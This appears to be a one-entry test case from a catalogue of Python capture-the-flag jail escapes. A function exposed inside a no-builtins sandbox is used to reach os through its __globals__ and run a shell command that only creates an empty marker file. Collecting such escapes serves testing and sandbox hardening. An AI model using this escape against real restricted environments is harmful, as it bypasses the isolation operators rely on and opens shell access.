"""A function of the host's knows its module's names.

Known from: CTF jails; the attribute func_globals that Python 2's restricted mode hid
Effect: made
Host: import os
Host: def helper(): pass
Given: helper
Jail: no builtins
"""
helper.__globals__["os"].system(": > made")
